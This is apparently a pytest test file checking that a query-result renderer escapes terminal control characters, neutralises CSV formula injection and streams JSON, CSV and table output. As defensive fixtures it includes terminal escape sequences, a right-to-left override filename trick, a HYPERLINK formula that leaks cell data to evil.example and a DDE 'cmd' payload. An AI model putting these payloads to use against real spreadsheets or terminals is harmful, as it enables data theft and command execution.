"""Rendering query results: control characters escaped in tables, formulas defused in CSV,
JSON exact, and rows written as they come."""

import csv
import io
import json
import re
import tracemalloc
from collections.abc import Iterator
from typing import Any

import pytest
from rich.console import Console

from eventstore import output
from eventstore.output import csv_cell, escape_controls, render

FIELDS = ("position", "key")


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("plain/key.txt", "plain/key.txt"),
        ("été/résumé.csv", "été/résumé.csv"),
        ("a\x1b[2Jb", "a\\x1b[2Jb"),  # ESC: clear the screen
        ("title\x1b]0;pwned\x07", "title\\x1b]0;pwned\\x07"),  # OSC: retitle, BEL
        ("line\nbreak", "line\\nbreak"),
        ("carriage\rreturn", "carriage\\rreturn"),
        ("tab\there", "tab\\there"),
        ("nul\x00del\x7f", "nul\\x00del\\x7f"),
        ("c1\x9b31m", "c1\\x9b31m"),  # the one-byte CSI
        ("\u202egnp.exe", "\\u202egnp.exe"),  # right-to-left override
        ("isolate\u2066x\u2069", "isolate\\u2066x\\u2069"),
        ("separator\u2028x", "separator\\u2028x"),
    ],
)
def test_escape_controls(raw: str, shown: str) -> None:
    assert escape_controls(raw) == shown


def test_no_control_character_survives_escaping() -> None:
    # Given every C0 and C1 control character and DEL
    controls = "".join(chr(c) for c in [*range(0x20), *range(0x7F, 0xA0)])
    # When escaped
    shown = escape_controls(controls)
    # Then only printable ASCII is left
    assert shown.isascii()
    assert shown.isprintable()


def test_a_table_row_is_one_line_whatever_the_key() -> None:
    # Given keys that try to break the table and drive the terminal
    rows = [{"position": 1, "key": "a\nb\rc\x1b[31mred"}, {"position": 2, "key": "plain"}]
    out = io.StringIO()
    # When rendered as a table
    render(rows, FIELDS, "table", out)
    # Then each row stays on its line, with the controls shown escaped
    lines = out.getvalue().splitlines()
    assert len(lines) == 2 + len(rows) + 1  # header, rule, rows, count
    assert "\x1b" not in out.getvalue()
    assert "a\\nb\\rc\\x1b[31mred" in lines[2]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_csv_cell_cannot_start_a_formula(start: str) -> None:
    key = f'{start}HYPERLINK("http://evil.example/?"&A1,"open")'
    out = io.StringIO()
    render([{"position": 1, "key": key}], FIELDS, "csv", out)
    (row,) = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert row["key"] == "'" + key
    assert row["position"] == "1"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (None, ""),
        (12, 12),
        (True, True),
        ("logs/a=b.txt", "logs/a=b.txt"),  # only a leading character starts a formula
        ("'quoted", "'quoted"),
    ],
)
def test_other_csv_cells_are_unchanged(value: Any, cell: Any) -> None:
    assert csv_cell(value) == cell


@pytest.mark.parametrize("fmt", ["json", "jsonl"])
def test_json_keeps_keys_exact(fmt: str) -> None:
    # Given a key with every kind of control character and a leading '='
    key = "=cmd|' /C calc'!A0\x1b[2J\n\r\t\x00\x7f\x9b\u202e"
    out = io.StringIO()
    render([{"position": 1, "key": key}], FIELDS, fmt, out)
    text = out.getvalue()
    # Then JSON escapes what must be escaped and the key reads back exact
    decoded = json.loads(text) if fmt == "json" else [json.loads(x) for x in text.splitlines()]
    assert decoded == [{"position": 1, "key": key}]
    assert "\x1b" not in text


@pytest.mark.parametrize("count", [0, 1, 3])
def test_the_streamed_json_array_is_what_json_dump_writes(count: int) -> None:
    rows = [{"position": n, "key": f"k{n}", "extra": "not a field"} for n in range(count)]
    out = io.StringIO()
    render(rows, FIELDS, "json", out)
    expected = [{"position": n, "key": f"k{n}"} for n in range(count)]
    assert out.getvalue() == json.dumps(expected, indent=2, ensure_ascii=False) + "\n"


class CountingRows:
    """Rows made on demand, counting how many were taken when output was first written."""

    def __init__(self, count: int) -> None:
        self.count = count
        self.taken = 0
        self.taken_at_first_write: int | None = None

    def __iter__(self) -> Iterator[dict[str, Any]]:
        for n in range(self.count):
            self.taken += 1
            yield {"position": n, "key": f"key-{n}"}


class WatchingOut(io.StringIO):
    def __init__(self, rows: CountingRows) -> None:
        super().__init__()
        self.rows = rows

    def write(self, text: str) -> int:
        if self.rows.taken_at_first_write is None and self.rows.taken:
            self.rows.taken_at_first_write = self.rows.taken
        return super().write(text)


@pytest.mark.parametrize(("fmt", "held"), [("jsonl", 1), ("csv", 1), ("json", 1)])
def test_machine_formats_write_each_row_as_it_comes(fmt: str, held: int) -> None:
    # Given more rows than anyone should hold at once
    rows = CountingRows(5000)
    out = WatchingOut(rows)
    # When rendered
    render(rows, FIELDS, fmt, out)
    # Then the first row was written before the second was taken
    assert rows.taken_at_first_write == held
    assert rows.taken == 5000


def test_a_table_is_written_a_page_at_a_time() -> None:
    rows = CountingRows(output.TABLE_PAGE * 3 + 7)
    out = WatchingOut(rows)
    render(rows, FIELDS, "table", out)
    assert rows.taken_at_first_write == output.TABLE_PAGE
    lines = out.getvalue().splitlines()
    assert lines[-1] == f"({output.TABLE_PAGE * 3 + 7} rows)"


def test_table_pages_stay_aligned_and_repeat_the_header_only_when_wider(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # Given pages of two rows, the second page with a longer key
    monkeypatch.setattr(output, "TABLE_PAGE", 2)
    keys = ["a", "bb", "cccccccc", "d", "e"]
    rows = [{"position": n, "key": key} for n, key in enumerate(keys)]
    out = io.StringIO()
    # When rendered as a table
    render(rows, FIELDS, "table", out)
    # Then the header is printed again when the columns widen, not for the third page
    text = out.getvalue()
    assert text.count("position  key") == 2
    assert text.endswith("(5 rows)\n")
    body = [line for line in text.splitlines() if line and line[0].isdigit()]
    assert [line.split()[1] for line in body] == keys
    assert len({line.index(line.split()[1]) for line in body}) == 1  # one key column


def terminal(width: int) -> Console:
    return Console(file=io.StringIO(), force_terminal=True, width=width, color_system="standard")


def test_on_a_terminal_the_table_is_coloured_and_fits_the_width() -> None:
    # Given a terminal 40 columns wide and a key longer than that
    console = terminal(40)
    long_key = "reports/2026/" + "x" * 50 + "/end.csv"
    rows = [{"position": 1, "key": "a.txt"}, {"position": 2, "key": long_key}]
    # When rendered as a table
    render(rows, FIELDS, "table", io.StringIO(), console=console)
    # Then it is drawn in colour, no line is wider than the terminal, and the long key is
    # folded onto more lines, not cut
    text = console.file.getvalue()  # type: ignore[attr-defined]
    assert "\x1b[" in text
    plain = re.sub(r"\x1b\[[0-9;]*m", "", text)
    assert all(len(line) <= 40 for line in plain.splitlines())
    assert "position" in plain and "a.txt" in plain
    folded = "".join(line.split()[-1] for line in plain.splitlines()[3:-1])
    assert long_key in folded
    assert plain.splitlines()[-1] == "(2 rows)"


def test_markup_in_a_key_is_shown_literally() -> None:
    # Given keys that look like Rich markup
    rows = [{"position": 1, "key": "[bold]x[/bold]"}, {"position": 2, "key": "[red]y"}]
    console = terminal(80)
    plain_out = io.StringIO()
    # When rendered on a terminal and piped
    render(rows, FIELDS, "table", io.StringIO(), console=console)
    render(rows, FIELDS, "table", plain_out)
    # Then both show the brackets as typed, and no bold or red came from them
    shown = console.file.getvalue()  # type: ignore[attr-defined]
    assert "[bold]x[/bold]" in shown and "[red]y" in shown
    assert "\x1b[31m" not in shown
    assert "[bold]x[/bold]" in plain_out.getvalue()


def test_a_piped_table_is_plain_and_exact() -> None:
    rows = [
        {"position": 1, "key": "a.txt"},
        {"position": 22, "key": None},
        {"position": 3, "key": "été/日本.txt"},
    ]
    out = io.StringIO()
    render(rows, FIELDS, "table", out)
    assert out.getvalue() == (
        "position  key\n"
        "--------- ------------\n"
        "1         a.txt\n"
        "22        -\n"
        "3         été/日本.txt\n"
        "(3 rows)\n"
    )


def test_a_long_table_takes_bounded_memory(monkeypatch: pytest.MonkeyPatch) -> None:
    # Given pages of 100 rows, and Rich's caches warm (it keeps bounded LRU caches of widths)
    monkeypatch.setattr(output, "TABLE_PAGE", 100)

    class Counting(io.StringIO):
        lines = 0

        def write(self, text: str) -> int:  # counts lines without keeping them
            self.lines += text.count("\n")
            return len(text)

    def peak(count: int) -> int:
        rows = ({"position": n, "key": f"logs/{n:08d}.gz"} for n in range(count))
        out = Counting()
        tracemalloc.start()
        try:
            render(rows, FIELDS, "table", out)
            return tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()
            assert out.lines >= count

    peak(3000)
    # When a table four times as long is printed
    short, long = peak(3000), peak(12000)
    # Then its peak memory grows far less than the table (held whole, it would take four
    # times as much); what does grow is Rich's width cache, bounded at 4096 entries, which
    # 3000 distinct keys do not fill yet
    assert long < short * 2, (short, long)
